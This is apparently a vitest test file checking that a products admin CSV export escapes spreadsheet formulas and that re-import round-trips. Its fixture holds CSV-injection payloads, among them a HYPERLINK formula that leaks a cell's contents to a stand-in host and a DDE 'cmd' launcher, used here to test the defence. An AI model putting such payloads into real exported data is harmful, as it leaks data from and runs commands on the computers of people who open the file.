import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../../test/support/test-app.js';
import { repCookie } from '../../../../test/support/rep-session.js';
import { newProductInput } from '../../../../test/support/product-test-helpers.js';

const t = useTestApp();

async function admin(method: 'GET' | 'POST', url: string, payload?: unknown, headers: Record<string, string> = {}) {
  const cookie = await repCookie(t.app);
  return t.app.inject({ method, url, headers: { cookie, ...headers }, ...(payload === undefined ? {} : { payload: payload as string }) });
}

/** Text a spreadsheet would run as a formula when it opens the file (OWASP's CSV injection list). */
const formulas = {
  name: '=HYPERLINK("https://evil.example/?"&A1,"Click for your discount")',
  description: '+cmd|"/c calc"!A1 and a serum',
  reason: '-2+3 reasons to love it',
  tags: ['@SUM(1+1)', 'Calm'],
};

describe('the products CSV export and formulas', () => {
  it('the products CSV export writes no cell a spreadsheet would run as a formula', async () => {
    const product = newProductInput(formulas);
    const created = await admin('POST', '/api/admin/products', product);
    expect(created.statusCode, created.body).toBe(201);

    const exported = await admin('GET', '/api/admin/products.csv');
    expect(exported.statusCode).toBe(200);
    const rows = parse(exported.body) as string[][];
    const header = rows[0]!;
    const row = rows.find((cells) => cells[header.indexOf('slug')] === product.slug)!;
    const cell = (column: string) => row[header.indexOf(column)]!;
    expect(cell('name')).toBe(`'${formulas.name}`);
    expect(cell('description')).toBe(`'${formulas.description}`);
    expect(cell('reason')).toBe(`'${formulas.reason}`);
    expect(cell('tags')).toBe(`'@SUM(1+1)|Calm`);
    for (const cells of rows) for (const value of cells) expect(value, JSON.stringify(cells)).not.toMatch(/^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/);
  });

  it('importing the export back restores such cells as they were and changes nothing', async () => {
    const product = newProductInput(formulas);
    expect((await admin('POST', '/api/admin/products', product)).statusCode).toBe(201);
    const exported = await admin('GET', '/api/admin/products.csv');
    const imported = await admin('POST', '/api/admin/products.csv', exported.body, { 'content-type': 'text/csv' });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({ imported: true, created: 0, updated: 0 });

    // A file whose apostrophes a spreadsheet kept, changed by hand, updates the product to the text without them.
    const header = exported.body.split(/\r?\n/)[0]!;
    const line = exported.body.split(/\r?\n/).find((text) => text.startsWith(`${product.slug},`))!;
    const edited = line.replace(`'-2+3 reasons to love it`, `'-3 reasons to love it`);
    const changed = await admin('POST', '/api/admin/products.csv', `${header}\n${edited}\n`, { 'content-type': 'text/csv' });
    expect(changed.json()).toMatchObject({ imported: true, updated: 1 });
    const saved = (await admin('GET', `/api/admin/products?search=${product.slug}`)).json().products[0];
    expect(saved).toMatchObject({ name: formulas.name, description: formulas.description, reason: '-3 reasons to love it', tags: formulas.tags });
  });
});
